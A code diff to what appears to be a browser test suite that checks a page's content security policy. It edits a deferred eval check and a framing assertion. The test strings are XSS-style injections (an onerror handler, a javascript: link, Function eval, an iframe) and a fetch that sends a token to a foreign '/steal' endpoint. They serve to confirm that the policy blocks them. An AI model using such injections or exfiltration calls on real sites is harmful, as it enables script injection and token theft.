@@ -57,7 +57,8 @@ const foreignScript = `await new Promise((done) => {
   document.body.append(element);
 })`;
 const handler = `document.body.insertAdjacentHTML('beforeend', '<img src="x:y" onerror="window.hit = 1"><a id="bait" href="javascript:void(window.hit = 2)">x</a>'); document.getElementById('bait').click()`;
-const evaluated = `try { window.hit = new Function('return 3')() } catch {}`;
+// Later, since the debugger that sends this may do what the page may not.
+const evaluated = `setTimeout(() => { try { window.hit = new Function('return 3')(); } catch {} }, 0)`;
 const sentAway = `await fetch(foreign + '/steal?token=x').catch(() => undefined)`;
 const framed = `await new Promise((done) => {
   const element = document.createElement('iframe');
@@ -189,7 +190,7 @@ describe('another site', () => {
     const refused = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/i.test(message.text()));
     await page.evaluate(`document.body.innerHTML = '<iframe src="${server.url}${path}"></iframe>'`);
     await refused;
-    expect(page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
+    expect(page.frames().filter((frame) => frame.url().startsWith(server.url))).toEqual([]);
     await page.context().close();
   });
 
